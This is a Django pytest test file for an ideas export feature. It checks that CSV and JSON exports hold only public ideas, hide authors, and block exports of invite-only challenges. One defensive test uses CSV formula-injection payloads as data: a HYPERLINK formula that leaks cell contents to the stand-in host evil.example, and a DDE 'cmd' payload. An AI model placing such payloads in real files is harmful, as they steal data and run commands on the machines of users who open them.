import csv
import io

import pytest
from django.urls import reverse

from cocreate.ideas.models import Idea


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_ideas_export_holds_public_ideas_only(client, collection, make_idea):
    shown = make_idea(title="Bike lanes")
    make_idea(title="Hidden one")
    Idea.objects.filter(title="Hidden one").update(is_hidden=True)
    make_idea(title="Waiting one", origin=Idea.Origin.WIKI_SURVEY)
    Idea.objects.filter(pk=shown.pk).update(support_count=3, status="accepted")

    response = client.get(reverse("ideas:export_csv", args=[collection.slug]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(response.content.decode())
    assert [(r["title"], r["supports"], r["status"]) for r in rows] == [("Bike lanes", "3", "accepted")]
    assert list(rows[0]) == [
        "id",
        "title",
        "description",
        "status",
        "supports",
        "comments",
        "origin",
        "created_at",
        "withdrawn_at",
        "url",
    ]

    data = client.get(reverse("ideas:export_json", args=[collection.slug])).json()
    assert data["challenge"] == collection.slug
    assert [(i["id"], i["supports"], i["withdrawn_at"]) for i in data["ideas"]] == [(shown.pk, 3, None)]
    assert "author" not in data["ideas"][0]


@pytest.mark.django_db
def test_ideas_export_of_an_invited_only_challenge_is_not_public(client, make_challenge_in):
    challenge = make_challenge_in(visibility="invited")
    assert client.get(reverse("ideas:export_csv", args=[challenge.slug])).status_code == 404


@pytest.mark.django_db
def test_ideas_export_turns_no_title_or_description_into_a_formula(client, collection, make_idea):
    idea = make_idea(title='=HYPERLINK("https://evil.example/?x="&A1,"Details")')
    Idea.objects.filter(pk=idea.pk).update(description="@SUM(1+1)*cmd|' /C calc'!A0")

    rows = read_csv(client.get(reverse("ideas:export_csv", args=[collection.slug])).content.decode())
    assert rows[0]["title"] == '\'=HYPERLINK("https://evil.example/?x="&A1,"Details")'
    assert rows[0]["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    data = client.get(reverse("ideas:export_json", args=[collection.slug])).json()
    assert data["ideas"][0]["title"] == '=HYPERLINK("https://evil.example/?x="&A1,"Details")'  # JSON is data as typed
